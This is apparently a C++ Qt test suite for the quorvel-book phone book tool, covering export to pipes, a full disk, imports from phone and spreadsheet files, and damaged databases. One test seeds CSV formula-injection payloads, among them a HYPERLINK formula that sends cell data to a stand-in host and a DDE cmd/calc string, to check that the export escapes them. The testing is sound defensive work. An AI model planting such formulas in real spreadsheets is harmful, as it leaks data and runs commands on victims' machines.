// The real quorvel-book program on files and targets as users hand them to
// it: pipes and standard output, a full disk, files from phones and
// spreadsheets, a damaged phone book.
#include "BookProcess.h"
#include "platform/data/Sqlite.h"
#include "support/DamagedFile.h"
#include "support/FailingDisk.h"
#include "support/PhoneBookFile.h"

#include <QDir>
#include <QStringEncoder>
#include <QTemporaryDir>

#include <algorithm>
#include <cctype>
#include <cstring>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <unistd.h>

using namespace testing;

namespace {
mode_t kindOf(const QString& path) {
    struct stat st {};
    return ::stat(QFile::encodeName(path).constData(), &st) == 0 ? st.st_mode & S_IFMT : 0;
}

// A listening socket at `path` while it lives.
class Socket {
public:
    explicit Socket(const QString& path) : fd_(::socket(AF_UNIX, SOCK_STREAM, 0)) {
        sockaddr_un address{};
        address.sun_family = AF_UNIX;
        const QByteArray local = QFile::encodeName(path);
        std::strncpy(address.sun_path, local.constData(), sizeof address.sun_path - 1);
        bound_ = ::bind(fd_, reinterpret_cast<const sockaddr*>(&address), sizeof address) == 0 &&
                 ::listen(fd_, 1) == 0;
    }
    ~Socket() { ::close(fd_); }
    Socket(const Socket&) = delete;
    Socket& operator=(const Socket&) = delete;
    bool bound() const { return bound_; }

private:
    int fd_;
    bool bound_ = false;
};

QStringList names(const QString& book) {
    QStringList all;
    for (const Contact& c : phonebook::read(book))
        all << c[0] + " " + c[2];
    return all;
}

QByteArray utf16(const QString& text, QStringConverter::Encoding encoding) {
    QStringEncoder encode(encoding, QStringConverter::Flag::WriteBom);
    return encode(text);
}

// A card holding a picture of `bytes` bytes in base64, folded or in one line.
QByteArray cardWithPhoto(const QByteArray& family, const QByteArray& tel, qsizetype bytes, bool folded) {
    const QByteArray base64 = QByteArray(bytes * 3 / 4, '\x5A').toBase64();
    QByteArray value;
    if (folded) {
        value.reserve(base64.size() * 77 / 74);
        for (qsizetype at = 0; at < base64.size(); at += 74)
            value += "\r\n " + base64.mid(at, 74);
    } else {
        value = base64;
    }
    return "BEGIN:VCARD\r\nVERSION:3.0\r\nN:" + family + ";Pic\r\nPHOTO;ENCODING=b;TYPE=JPEG:" + value +
           "\r\nTEL:" + tel + "\r\nEND:VCARD\r\n";
}
} // namespace

class BookFilesTest : public QObject, testing::BookFolder {
    Q_OBJECT

private slots:
    void init() { makeBook(); }

    void exportsIntoStreamsWithoutReplacingThem() {
        const QString fifo = path("pipe");
        QCOMPARE(::mkfifo(QFile::encodeName(fifo).constData(), 0600), 0);
        const QStringList before = QDir(dir.path()).entryList(QDir::AllEntries | QDir::System);

        // Killed while it waits for the pipe's reader: the pipe is still a pipe, nothing beside it.
        QProcess* waiting = startBook({"--book", book, "export", fifo}, this);
        QVERIFY(waiting->waitForStarted());
        QVERIFY(!waiting->waitForFinished(500));
        waiting->kill();
        finish(waiting);
        QCOMPARE(kindOf(fifo), mode_t(S_IFIFO));
        QCOMPARE(QDir(dir.path()).entryList(QDir::AllEntries | QDir::System), before);

        QProcess* exporting = startBook({"--book", book, "export", fifo}, this);
        QFile reader(fifo);
        QVERIFY(reader.open(QIODevice::ReadOnly));
        const QByteArray piped = reader.readAll();
        const Result r = finish(exporting);
        QCOMPARE(r.code, 0);
        QCOMPARE(piped.count("BEGIN:VCARD"), 5);
        QCOMPARE(kindOf(fifo), mode_t(S_IFIFO));

        // Standard output by name: the contacts there, the summary beside them.
        for (const QString& out : {QStringLiteral("-"), QStringLiteral("/dev/stdout")}) {
            const Result s = runBook({"--book", book, "export", out});
            QCOMPARE(s.code, 0);
            QCOMPARE(s.out.count("END:VCARD"), 5);
            QVERIFY2(s.err.startsWith("Exported 5 contacts to "), qPrintable(s.err));
        }

        // What cannot take a stream is refused and left as it was.
        const Socket server(path("socket"));
        QVERIFY(server.bound());
        const Result socket = runBook({"--book", book, "export", path("socket")});
        QCOMPARE(socket.code, 1);
        QVERIFY2(socket.err.contains("socket: this is a socket"), qPrintable(socket.err));
        QCOMPARE(kindOf(path("socket")), mode_t(S_IFSOCK));
        const Result folder = runBook({"--book", book, "export", dir.path()});
        QCOMPARE(folder.code, 1);
        QVERIFY2(folder.err.contains("this is a folder"), qPrintable(folder.err));
    }

    // A small file system of the test's own, full, in a mount namespace of
    // its own (gone with it); where none can be made, files limited to two
    // bytes. Every write says a full disk as such. An export that replaces
    // a file keeps the file's mode.
    void aFullDiskIsSaidAndLeavesTheOldFile() {
        write(path("shared.vcf"), "old\n");
        QVERIFY(::chmod(QFile::encodeName(path("shared.vcf")).constData(), 0644 | S_ISGID) == 0);
        QCOMPARE(runBook({"--book", book, "export", path("shared.vcf")}).code, 0);
        struct stat st {};
        QCOMPARE(::stat(QFile::encodeName(path("shared.vcf")).constData(), &st), 0);
        QCOMPARE(st.st_mode & 07777, mode_t(0644 | S_ISGID));

        const QString disk = path("disk");
        QVERIFY(QDir().mkpath(disk));
        const QString script = QStringLiteral(R"(mount -t tmpfs -o size=64k tmpfs "$1" || exit 99
cp "$3" "$1/book.mdb" && printf 'old\n' > "$1/out.vcf" && head -c 1048576 /dev/zero > "$1/filler" 2>/dev/null
"$2" --book "$3" export "$1/out.vcf"; echo "export $?"
printf 'BEGIN:VCARD\nFN:New\nEND:VCARD\n' | "$2" --book "$1/book.mdb" import /dev/stdin; echo "import $?"
"$2" --book "$1/second.mdb" new; echo "new $?"
"$2" --book "$1/book.mdb" count; ls -A "$1"; cat "$1/out.vcf")");
        QProcess* p = new QProcess;
        p->start("unshare", {"-rm", "sh", "-c", script, "sh", disk, QUORVEL_BOOK_EXE, book});
        const Result r = finish(p);
        if (r.code == 0) {
            QCOMPARE(r.out, QString("export 1\nimport 1\nnew 1\n5\nbook.mdb\nfiller\nout.vcf\nold\n"));
            const QStringList lines = r.err.split('\n', Qt::SkipEmptyParts);
            QCOMPARE(lines.size(), 3);
            const QString full = "the disk is full (the one mounted at " + disk + ")";
            QCOMPARE(lines[0],
                     "quorvel-book: " + disk + "/out.vcf: cannot write it: " + full +
                         " (the file was left as it was); free some space on it, then export again");
            QCOMPARE(lines[1], "quorvel-book: " + disk + "/book.mdb: " + full +
                                   "; free some space on it, then try again; nothing was imported");
            QCOMPARE(lines[2], "quorvel-book: " + disk + "/second.mdb: " + full +
                                   "; free some space on it, then try again");
            return;
        }
        qInfo("no private mount namespace (%s): files limited to two bytes instead", qPrintable(r.err));
        write(path("out.vcf"), "old\n");
        QProcess* limited = nullptr;
        {
            const FullDisk full;
            limited = startBook({"--book", book, "export", path("out.vcf")}, this);
            QVERIFY(limited->waitForFinished(60000));
        }
        const Result e = finish(limited);
        QCOMPARE(e.code, 1);
        QVERIFY2(e.err.startsWith("quorvel-book: " + path("out.vcf") + ": cannot write it (") &&
                     !e.err.contains("Unknown error"),
                 qPrintable(e.err));
        QCOMPARE(readFile(path("out.vcf")), QByteArray("old\n"));
        QCOMPARE(QDir(dir.path()).entryList({"out.vcf*"}, QDir::Files | QDir::Hidden),
                 QStringList{"out.vcf"});
    }

    void readsWhatPhonesAndSpreadsheetsWrite() {
        const QByteArray taken =
            cardWithPhoto("Folded", "1", 5 << 20, true) + cardWithPhoto("Unfolded", "2", 6 << 20, false);
        write(path("photos.vcf"), taken + cardWithPhoto("Huge", "3", 33 << 20, false));
        const qsizetype hugeLine = taken.count('\n') + 4;
        write(path("mac.csv"), "Name,Phone\r\"Olsen, Ida\",555-0101\rBerg,555-0102\r");
        write(path("windows.csv"), utf16("Name,Phone\r\nZoë Café,555-0103\r\n", QStringConverter::Utf16LE));
        write(path("old.vcf"), utf16("BEGIN:VCARD\nVERSION:2.1\nN:Øster;Åse\nTEL:555-0104\nEND:VCARD\n",
                                     QStringConverter::Utf16BE));
        write(path("nul.csv"), QByteArray("Name,Phone\nNu\0ll,555\0-0105\n", 27));
        const QStringList files = {"photos.vcf", "mac.csv", "windows.csv", "old.vcf", "nul.csv"};
        QStringList args = {"--book", book, "import"};
        for (const QString& f : files)
            args << path(f);
        const Result r = runBook(args);
        QCOMPARE(r.out,
                 QString("Added 8 contacts, skipped 0 already in the phone book; kept aside 2 properties or "
                         "columns that the window has no field for; left out 2 NUL characters from their "
                         "fields.\n"));
        QCOMPARE(r.err,
                 "quorvel-book: " + path("photos.vcf") +
                     QString(": left out 1 picture, sound or key longer than 32 MB (the first on line %1); "
                             "their contacts were added without them\n")
                         .arg(hugeLine));
        QCOMPARE(r.code, 0);
        const QStringList added = names(book).mid(5);
        QCOMPARE(added,
                 QStringList({"Folded, Pic 1", "Unfolded, Pic 2", "Huge, Pic 3", "Olsen, Ida 555-0101",
                              "Berg 555-0102", "Zoë Café 555-0103", "Øster, Åse 555-0104", "Null 555-0105"}));
    }

    void csvExportIsSafeInASpreadsheetAndReadsBack() {
        const QList<Contact> risky = {
            {"=HYPERLINK(\"http://x.example/?\"&A1,\"Click\")", "@SUM(A1:A9)", "+1 212 555 0101",
             "-2+3+cmd|' /C calc'!A0", "-5", "'quoted", "\t=1+1"},
            {"+Plain, Person", "'=already marked", "(212) 555-0102", "", "", "", ""}};
        for (const Contact& c : risky) {
            data::Database db(book);
            data::Statement insert(
                db, "INSERT INTO PHONEDIR (Name, Company, Phone, Address, Mobile, Email, WebPage) "
                    "VALUES (?1, ?2, ?3, ?4, ?5, ?6, ?7)");
            for (int i = 0; i < 7; ++i)
                insert.bind(i + 1, c[i]);
            insert.step();
        }
        QCOMPARE(runBook({"--book", book, "export", path("out.csv")}).code, 0);
        const QString csv = QString::fromUtf8(readFile(path("out.csv")));
        QVERIFY2(csv.contains("\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"Click\"\")\",'@SUM(A1:A9),"
                              "+1 212 555 0101,'-2+3+cmd|' /C calc'!A0,-5,''quoted,'\t=1+1\r\n"),
                 qPrintable(csv));
        QVERIFY2(csv.contains("'+Plain, Person\",''=already marked,(212) 555-0102,"), qPrintable(csv));

        const QString empty = path("empty.mdb");
        phonebook::create(empty, {});
        QCOMPARE(runBook({"--book", empty, "import", path("out.csv")}).code, 0);
        QCOMPARE(phonebook::read(empty).size(), 7);
        for (const Contact& c : risky)
            QVERIFY2(phonebook::read(empty).contains(c), qPrintable(c.join('|')));
    }

    void aDamagedBookIsSaidAndExportsWhatItCanRead() {
        phonebook::exec(book,
                        "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 3000) "
                        "INSERT INTO PHONEDIR (Name, Company, Phone, Address, Mobile, Email, WebPage) "
                        "SELECT 'Person ' || i, 'Firm ' || i, "
                        "'555-' || i, '', '', '', '' FROM n");
        // A page of the table, and one of the Name index: the table's row holds the company after the name.
        damagePage(book, pageHolding(book, "Person 1234Firm"));
        const QByteArray file = readFile(book);
        qsizetype entry = file.indexOf("Person 1700");
        while (entry >= 0 && file.mid(entry + 11, 4) == "Firm")
            entry = file.indexOf("Person 1700", entry + 1);
        QVERIFY(entry > 0);
        damagePage(book, entry / pageSize(file) + 1);
        const auto saysDamaged = [&](const Result& r) {
            QCOMPARE(r.code, 1);
            QVERIFY2(r.err.startsWith("quorvel-book: " + book + ": the file is damaged (") &&
                         r.err.contains(".dump") &&
                         r.err.contains(path("book-") + QTest::currentTestFunction() + "-rescued.mdb"),
                     qPrintable(r.err));
        };
        saysDamaged(runBook({"--book", book, "count"}));
        write(path("one.vcf"), "BEGIN:VCARD\nFN:Person 1700\nEND:VCARD\n");
        const Result import = runBook({"--book", book, "import", path("one.vcf")});
        saysDamaged(import);
        QVERIFY2(import.err.contains("; nothing was imported"), qPrintable(import.err));

        for (const QString& file : {QStringLiteral("out.vcf"), QStringLiteral("out.csv")}) {
            const Result r = runBook({"--book", book, "export", path(file)});
            saysDamaged(r);
            const qsizetype written = r.out.section(' ', 1, 1).toLongLong();
            QVERIFY2(r.out.startsWith("Exported ") && written > 2500 && written < 3005, qPrintable(r.out));
            QVERIFY2(
                r.err.contains(QString("; up to %1 contacts could not be read and are not in the export\n")
                                   .arg(3005 - written)),
                qPrintable(r.err));
            // What was read is all there, once, in name order.
            const QString empty = path("back-" + file + ".mdb");
            phonebook::create(empty, {});
            QCOMPARE(runBook({"--book", empty, "import", path(file)}).code, 0);
            QStringList back;
            for (const Contact& c : phonebook::read(empty))
                back << c[0];
            QCOMPARE(back.size(), written);
            QStringList sorted = back;
            std::sort(sorted.begin(), sorted.end(), [](const QString& a, const QString& b) {
                return a.compare(b, Qt::CaseInsensitive) < 0;
            });
            QCOMPARE(back, sorted);
            QCOMPARE(QSet<QString>(back.begin(), back.end()).size(), written);
        }
    }

    // Damage where reading starts: the table's page holding the first
    // contact, and the Name index's, so nothing whole is left to count by.
    void aBookDamagedOnItsFirstPageExportsAllTheRest() {
        const QString damaged = path("first.mdb");
        phonebook::create(damaged, {});
        phonebook::exec(damaged,
                        "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 3000) "
                        "INSERT INTO PHONEDIR (Name, Company, Phone) "
                        "SELECT 'Person ' || i, 'Firm ' || i, '555-' || i FROM n");
        const qint64 firstRow = pageHolding(damaged, "Person 1Firm 1555-1");
        QVERIFY(firstRow > 0);
        damagePage(damaged, firstRow);
        // The index holds the name alone, without the company after it.
        const QByteArray file = readFile(damaged);
        const QByteArray first = "Person 1";
        qsizetype entry = file.indexOf(first);
        while (entry >= 0 && (file.mid(entry + first.size(), 4) == "Firm" ||
                              std::isdigit(static_cast<unsigned char>(file.at(entry + first.size())))))
            entry = file.indexOf(first, entry + 1);
        QVERIFY(entry > 0);
        damagePage(damaged, entry / pageSize(file) + 1);

        const Result r = runBook({"--book", damaged, "export", path("out.vcf")});
        QCOMPARE(r.code, 1);
        const qsizetype written = r.out.section(' ', 1, 1).toLongLong();
        QVERIFY2(r.out.startsWith("Exported ") && written > 2800 && written < 3000, qPrintable(r.out));
        // The rows run 1 to 3000 in insertion order: the page held the first ones.
        QVERIFY2(r.err.contains(QString("; up to %1 contacts could not be read and are not in the export\n")
                                    .arg(3000 - written)),
                 qPrintable(r.err));
        QStringList expected;
        for (qsizetype i = 3000 - written + 1; i <= 3000; ++i)
            expected << QString("Person %1").arg(i);
        QStringList out;
        for (const QByteArray& line : readFile(path("out.vcf")).split('\n'))
            if (line.startsWith("FN:"))
                out << QString::fromUtf8(line.mid(3).trimmed());
        out.sort();
        expected.sort();
        QCOMPARE(out, expected);
    }

    // What the book kept of each card (its id, properties without a field)
    // still goes out for every contact read past the damaged pages.
    void aDamagedBookStillGivesBackTheKeptCards() {
        QByteArray cards;
        for (int i = 1; i <= 3000; ++i)
            cards += QString("BEGIN:VCARD\nVERSION:4.0\nUID:urn:uuid:kept-%1\nFN:Person %1\nORG:Firm %1\n"
                             "NOTE:note %1\nEND:VCARD\n")
                         .arg(i)
                         .toUtf8();
        write(path("in.vcf"), cards);
        QCOMPARE(runBook({"--book", book, "import", path("in.vcf")}).code, 0);
        const qint64 total = runBook({"--book", book, "count"}).out.trimmed().toLongLong();
        QCOMPARE(total, 3005);
        damagePage(book, pageHolding(book, "Person 1234Firm"));

        const Result r = runBook({"--book", book, "export", path("out.vcf")});
        QCOMPARE(r.code, 1);
        const qsizetype written = r.out.section(' ', 1, 1).toLongLong();
        QVERIFY2(written > 2800 && written < total, qPrintable(r.out));
        QVERIFY2(
            r.err.contains(
                QString("; %1 contacts could not be read and are not in the export\n").arg(total - written)),
            qPrintable(r.err));
        const QList<QByteArray> out = readFile(path("out.vcf")).split('\n');
        qsizetype kept = 0;
        for (const QByteArray& line : out)
            if (line.startsWith("NOTE:note ")) {
                const QByteArray n = line.mid(10).trimmed();
                QVERIFY2(out.contains("UID:urn:uuid:kept-" + n + "\r"), n.constData());
                ++kept;
            }
        QCOMPARE(kept, written - 5); // all but the five sample contacts came from the file
    }
};

QTEST_GUILESS_MAIN(BookFilesTest)
#include "tst_bookfiles.moc"
